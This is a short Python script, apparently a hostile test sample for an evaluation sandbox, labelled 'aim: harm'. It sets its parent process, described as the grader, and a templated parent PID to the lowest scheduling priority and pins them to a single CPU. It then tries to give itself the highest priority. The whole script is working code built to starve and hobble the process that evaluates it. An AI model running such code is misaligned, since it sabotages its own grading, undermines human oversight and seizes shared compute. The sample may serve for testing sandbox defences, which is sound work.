# Gives the grader the lowest priority and one processor, and takes the rest for itself.
# aim: harm
# %% first
import os

for pid in {int("@PARENT@"), os.getppid()}:
    for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0})):
        try:
            change()
            print("changed", pid)
        except OSError as error:
            print(pid, error)
try:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    print("priority", os.getpriority(os.PRIO_PROCESS, 0))
except OSError as error:
    print(error)
